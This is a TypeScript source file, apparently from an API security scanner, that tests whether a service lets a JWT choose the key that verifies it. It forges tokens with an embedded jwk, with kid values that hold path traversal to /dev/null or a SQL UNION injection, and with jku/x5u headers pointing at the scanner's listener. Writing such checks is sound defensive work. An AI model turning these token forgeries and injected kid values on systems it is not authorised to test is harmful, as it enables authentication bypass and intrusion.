import type { Check, CheckContext } from '../../model/check.ts';
import type { Proof } from '../../model/finding.ts';
import { freshClaims, hmacToken, type Jwt, jwtIdentities, ownKey, signedToken } from './shared/jwt.ts';
import { firstBelieved, type Probe, probesOf } from './shared/probes.ts';
import { randomText, withSecret } from './shared/requests.ts';
import { believesAnything } from './shared/signatures.ts';

/** Milliseconds for the API to fetch a key after it has answered. */
const LATE = 300;

/** Names of key files whose content an attacker knows: empty ones. */
const EMPTY_FILES = ['/dev/null', '../../../../../../../../dev/null', 'file:///dev/null'] as const;

/** The token says where the key is that verifies it. */
export const check: Check = {
  id: 'token-key-source',
  group: 'authentication',
  title: 'Lets the token choose its key',
  practice: 'authenticate',
  cwe: 'CWE-347',
  owasp: 'API2:2023',
  severity: 'critical',
  why: 'The header of a token names or holds the key that verifies it (`jwk`, `jku`, `x5u`, or a `kid` that is used as a path or in a query). Whoever writes the token brings a fitting key along.',
  mend: 'Take keys only from the configured issuer, look `kid` up in a list, ignore `jwk`, `jku`, `x5u` and `x5c`. Portcullis never reads a key from a token.',

  async run(context) {
    const holders = jwtIdentities(context.identities);
    if (holders.length === 0) return context.skip('no identity has a JWT');
    for (const { as, jwt } of holders) {
      const [probe] = await probesOf(context, as, 1);
      if (probe === undefined) continue;
      const request = context.render(probe.call, as);
      // Where any signature will do, it does not matter where the key comes from: that has a check of its own.
      if (await believesAnything(context, probe, jwt)) continue;
      const attacks = (await forgeries(context, jwt)).map(({ name, token }) => ({
        name,
        request: () => withSecret(request, as, token),
      }));
      await firstBelieved(context, probe, attacks, (name) => ({
        message: `${probe.operation.key} believes a token with ${name}`,
        cause: name.startsWith('a kid') ? 'kid is used as it comes' : 'key from the token',
      }));
      await fetches(context, probe, jwt);
    }
  },
};

async function forgeries(
  context: CheckContext,
  jwt: Jwt,
): Promise<{ readonly name: string; readonly token: string }[]> {
  const claims = freshClaims(jwt);
  const list: { name: string; token: string }[] = [];
  const algorithms = new Set([String(jwt.header['alg']), 'RS256', 'ES256'].filter((alg) => !/^HS/.test(alg)));
  for (const wanted of algorithms) {
    const { key, jwk, algorithm: alg } = await ownKey(wanted);
    const kid = typeof jwt.header['kid'] === 'string' ? jwt.header['kid'] : 'scanner';
    const header = { ...jwt.header, alg, kid, jwk: { ...jwk, kid, use: 'sig', alg } };
    list.push({ name: `its own ${alg} key in its header (jwk)`, token: signedToken(header, claims, key) });
  }
  for (const kid of EMPTY_FILES) {
    for (const secret of ['', '\0']) {
      list.push({
        name: `a kid that names an empty file`,
        token: hmacToken({ ...jwt.header, alg: 'HS256', kid }, claims, secret),
      });
    }
  }
  const secret = randomText(context.random('kid'), 12);
  for (const quote of ["'", '"', '']) {
    const kid = `zz${quote} UNION SELECT '${secret}'-- `;
    list.push({
      name: 'a kid that is a query for its own secret',
      token: hmacToken({ ...jwt.header, alg: 'HS256', kid }, claims, secret),
    });
  }
  return list;
}

/** Whether the API fetches the key from where the token says: the listener is called. */
async function fetches(context: CheckContext, probe: Probe, jwt: Jwt): Promise<void> {
  const { as } = probe;
  for (const field of ['jku', 'x5u'] as const) {
    const alg = /^HS/.test(String(jwt.header['alg'])) ? 'RS256' : String(jwt.header['alg']);
    const own = await ownKey(alg);
    const attempt = async (): Promise<Proof | undefined> => {
      const bait = await context.bait();
      const token = signedToken({ ...jwt.header, alg: own.algorithm, [field]: bait.url }, freshClaims(jwt), own.key);
      const request = withSecret(context.render(probe.call, as), as, token);
      if (request === undefined) return undefined;
      const attack = await context.request(request, { operation: probe.operation });
      if (!bait.called()) await context.pause(LATE);
      return bait.called() ? { exchanges: [probe.refused, attack], marks: [] } : undefined;
    };
    const proof = await attempt();
    if (proof === undefined) continue;
    await context.report({
      message: `${probe.operation.key} fetches the key of a token from the address in its header (${field}): the scanner's listener was called`,
      operation: probe.operation,
      cause: `fetches ${field}`,
      proof,
      again: attempt,
    });
  }
}
